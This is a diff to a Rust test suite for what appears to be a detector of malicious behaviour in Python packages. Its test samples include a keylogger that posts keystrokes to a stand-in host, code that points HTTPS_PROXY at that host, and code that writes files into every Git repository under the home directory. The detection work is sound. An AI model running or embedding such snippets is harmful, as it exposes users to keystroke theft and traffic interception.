@@ -1049,6 +1049,8 @@ fn paths_of_a_listing_are_paths() {
     let behaviours: Vec<&String> = calls(&analysis).into_iter().flat_map(|call| &call.behaviour).collect();
     assert!(behaviours.iter().any(|it| *it == "file.write"), "{behaviours:?}");
     assert!(behaviours.iter().any(|it| *it == "file.delete"), "{behaviours:?}");
+    let found = flow(&analysis, "file.list", "file.delete");
+    assert!(found.source_text.iter().any(|text| text == "~/Documents"), "{found:?}");
     let sample =
         "from pathlib import Path\nfor d in Path.home().glob('*/.git'):\n    (d.parent / 'X.md').write_text('a')";
     let analysis = analysed(Role::Package, sample);
@@ -1084,4 +1086,20 @@ fn what_is_typed_reaches_the_listener() {
     flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
     let sample = "import requests, keyboard\ndef seen(event):\n    requests.post('http://a.invalid', data=event.name)\nkeyboard.hook(seen)";
     flow(&analysed(Role::Package, sample), "keyboard.capture", "network.send");
+}
+
+#[test]
+fn what_is_set_in_the_environment_is_a_call() {
+    for sample in [
+        "import os\nos.environ['HTTPS_PROXY'] = 'http://a.invalid'",
+        "import os\nos.putenv('HTTPS_PROXY', 'http://a.invalid')",
+        "from os import environ as e\ne.setdefault('HTTPS_PROXY', 'http://a.invalid')",
+    ] {
+        let analysis = analysed(Role::Package, sample);
+        let set = calls(&analysis).into_iter().any(|call| {
+            call.behaviour.iter().any(|it| it == "environment.write")
+                && call.text.iter().any(|text| text == "http://a.invalid")
+        });
+        assert!(set, "{sample}");
+    }
 }
